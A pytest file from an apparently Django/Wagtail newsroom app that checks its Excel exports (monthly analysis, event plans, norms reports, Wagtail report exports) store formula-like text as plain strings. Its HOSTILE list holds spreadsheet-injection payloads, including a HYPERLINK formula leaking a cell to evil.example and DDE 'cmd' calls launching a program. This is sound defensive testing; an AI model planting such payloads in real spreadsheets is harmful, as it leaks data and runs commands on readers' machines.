"""Every Excel file the product writes, read back with a formula-like value in each text column:
no cell is a formula. The monthly analysis mailed to the head, the plan of events, the norms
report and Wagtail's own report exports."""

import io
import re
import zipfile
from pathlib import Path

from django.urls import reverse

from wagtail.models import Site

import pytest
from openpyxl import load_workbook

from newsroom import roles, spreadsheets
from newsroom.models import Case, Department
from newsroom.reports import exports, monthly, plans
from newsroom.reports.period import Period
from social_sync import reports as social_reports
from social_sync.models import SocialAccount
from tests.factories import EventPageFactory, NewsPageFactory, UserFactory
from tests.newsroom.reports.month import MSK, NOW, build_month
from tests.once import once
from tests.social_sync.factories import SocialAccountFactory

ROOT = Path(__file__).resolve().parents[2]
pytestmark = once  # what is written does not depend on the database
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "=cmd|' /C calc'!A0",
    "+7(900)=1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def formulas_in(content):
    """The formula elements in every sheet of an XLSX file, read from its XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name).decode())
        ]


def texts_in(content):
    workbook = load_workbook(io.BytesIO(content))
    return {
        cell.value: cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_written_as_text(content, values):
    assert formulas_in(content) == []
    cells = texts_in(content)
    for value in values:
        assert value in cells, value
        assert cells[value].data_type == "s"
        assert cells[value].quotePrefix


def test_the_writer_neutralises_every_formula_like_text_and_keeps_the_rest():
    workbook = spreadsheets.new_workbook()
    spreadsheets.append_row(workbook.active, [*HOSTILE, "обычный текст", 12, None, 1.5])
    content = spreadsheets.workbook_bytes(workbook)
    assert_written_as_text(content, HOSTILE)
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert row[-4:] == ("обычный текст", 12, None, 1.5)
    # Without the writer, openpyxl stores the first value as a live formula: the check can fail.
    raw = spreadsheets.new_workbook()
    raw.active.append(HOSTILE[:1])
    assert formulas_in(spreadsheets.workbook_bytes(raw)) != []


def test_no_module_writes_a_workbook_but_through_the_writer():
    writers = [
        str(path.relative_to(ROOT))
        for app in ("newsroom", "social_sync", "accreditation", "site")
        for path in (ROOT / app).rglob("*.py")
        if re.search(r"\bWorkbook\(", path.read_text())
    ]
    assert writers == ["newsroom/spreadsheets.py"]


@pytest.mark.django_db
def test_the_monthly_analysis_writes_typed_categories_places_and_names_as_text():
    build_month()
    Case.objects.filter(category="ЖКХ").update(category=HOSTILE[0])
    Case.objects.filter(category="Дороги").update(category=HOSTILE[1], place=HOSTILE[2])
    Department.objects.filter(short_name="УЖХ").update(short_name=HOSTILE[4], name=HOSTILE[4])
    report = monthly.build(Period.month(2026, 11, MSK), now=NOW)
    head = exports.Letterhead(organisation=HOSTILE[3])
    assert_written_as_text(exports.xlsx_bytes(report, head), [HOSTILE[0], HOSTILE[1], HOSTILE[3]])


@pytest.mark.django_db
def test_the_plan_of_events_writes_typed_titles_places_and_officials_as_text(site_tree):
    import datetime

    EventPageFactory(
        parent=site_tree.event_index,
        title=HOSTILE[0],
        place=HOSTILE[1],
        responsible_official=HOSTILE[4],
        leadership=HOSTILE[3],
        start=datetime.datetime(2026, 12, 15, 10, tzinfo=MSK),
        end=datetime.datetime(2026, 12, 15, 12, tzinfo=MSK),
    )
    editor = UserFactory(username="sheet-editor", groups=[roles.EDITORS])
    site = Site.objects.get(is_default_site=True)
    plan, _, _ = plans.collect(site, datetime.date(2026, 12, 1), editor, MSK)
    content = plans.xlsx_bytes(plan, exports.Letterhead(organisation="Администрация"), MSK)
    assert formulas_in(content) == []
    texts = " ".join(texts_in(content))
    for value in (HOSTILE[1], HOSTILE[3], HOSTILE[4]):
        assert value in texts
    assert all(cell.data_type == "s" for cell in texts_in(content).values())


@pytest.mark.django_db
def test_the_norms_report_writes_account_names_as_text():
    SocialAccountFactory(name=HOSTILE[0], weekly_norm=2)
    SocialAccountFactory(name=HOSTILE[5], weekly_norm=5)
    report = social_reports.posting_norms(SocialAccount.objects.order_by("pk"))
    content = social_reports.norms_xlsx(report)
    assert_written_as_text(content, [HOSTILE[0], HOSTILE[5]])


@pytest.mark.django_db
def test_wagtails_report_exports_write_page_titles_as_text(client, site_tree):
    NewsPageFactory(parent=site_tree.area, title=HOSTILE[0]).save_revision().publish()
    client.force_login(UserFactory(username="sheet-admin", is_superuser=True))
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert formulas_in(content) == []
    assert any(value.startswith("=HYPERLINK") for value in texts_in(content))
